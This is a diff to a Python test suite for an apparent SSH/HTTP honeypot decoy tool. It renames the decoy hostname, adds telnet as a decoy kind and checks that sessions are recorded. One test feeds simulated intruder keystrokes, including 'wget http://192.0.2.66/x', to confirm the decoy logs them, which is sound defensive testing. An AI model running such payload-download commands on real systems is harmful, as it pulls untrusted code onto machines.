@@ -55,8 +55,8 @@ async def test_ssh_interactive_shell_on_a_terminal_is_recorded(tmp_path: Path) -
         keys = b"whoami\rcd /tmp\rwget http://192.0.2.66/x\rlogout\r"
         ran = await ssh(tmp_path, running.port, options=("-tt",), stdin=keys)
         assert ran.code == 0
-        assert "root@decky-01:~# " in ran.out
-        assert "root@decky-01:/tmp# " in ran.out
+        assert "root@web01:~# " in ran.out
+        assert "root@web01:/tmp# " in ran.out
         ended = (await until(lambda: running.events("session_recorded")))[0].fields
     assert [e.fields["command"] for e in running.events("command")] == [
         "whoami",
@@ -71,7 +71,7 @@ async def test_ssh_interactive_shell_on_a_terminal_is_recorded(tmp_path: Path) -
     typed = "".join(line["event"][2] for line in lines[1:] if line["event"][1] == "i")
     assert typed.encode() == keys
     shown = "".join(line["event"][2] for line in lines[1:] if line["event"][1] == "o")
-    assert "root@decky-01:~# " in shown
+    assert "root@web01:~# " in shown
     times = [line["event"][0] for line in lines[1:]]
     assert times == sorted(times)
 
@@ -294,7 +294,7 @@ async def test_decoy_whose_port_is_taken_names_the_variable(tmp_path: Path, kind
     ("arguments", "env", "code", "words"),
     [
         ((), {}, 2, "which decoy?"),
-        (("gopher",), {}, 2, "one of: ssh, http"),
+        (("gopher",), {}, 2, "one of: ssh, http, telnet"),
         (("ssh",), {"DECNET_DECOY_HOST": "nowhere.example"}, 1, "DECNET_DECOY_HOST"),
         (("ssh",), {"DECNET_DECOY_SSH_LOGINS": "root"}, 1, "DECNET_DECOY_SSH_LOGINS"),
     ],
@@ -312,7 +312,7 @@ async def test_decoy_with_a_wrong_setting_says_what_would_be_right(
 async def test_decoy_http_loads_no_ssh_and_no_database(tmp_path: Path) -> None:
     code = (
         "import sys, importlib, decnet.workers.decoy as d\n"
-        "importlib.import_module(d.KINDS['http'])\n"
+        "importlib.import_module(d.KINDS['http'].module)\n"
         "print(*[m for m in ('asyncssh', 'sqlalchemy', 'pydantic', 'fastapi') if m in sys.modules])"
     )
     process = await asyncio.create_subprocess_exec(
